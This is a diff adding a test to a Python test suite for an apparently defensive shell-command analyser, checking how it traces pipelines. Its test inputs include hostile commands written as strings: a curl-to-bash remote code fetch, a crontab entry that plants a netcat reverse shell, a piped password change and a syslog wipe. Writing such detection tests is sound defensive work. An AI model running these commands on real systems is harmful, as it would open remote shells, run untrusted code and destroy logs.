@@ -126,3 +126,12 @@ def test_plain_commands_read_the_same_without_a_parse(text):
 def test_texts_with_shell_syntax_take_the_parser(text):
     from vigiles.analysis.shell import plain_words
     assert plain_words(text) is None
+
+
+def test_pipelines_through_wrappers_groups_and_bare_redirections():
+    assert find("echo 'u:p' | sudo chpasswd", "chpasswd").pipe_from == ["echo"]
+    assert find("sudo dmidecode | grep -i vbox", "grep").pipe_from == ["dmidecode"]
+    assert find("curl -s http://x.example/y | sudo bash", "bash").pipe_from == ["curl"]
+    added = find("(crontab -l; echo '* * * * * nc -e /bin/sh 198.51.100.7 4444') | crontab -", "nc")
+    assert added.via == ("crontab",)
+    assert find("> /var/log/syslog", ":").writes == ["/var/log/syslog"]
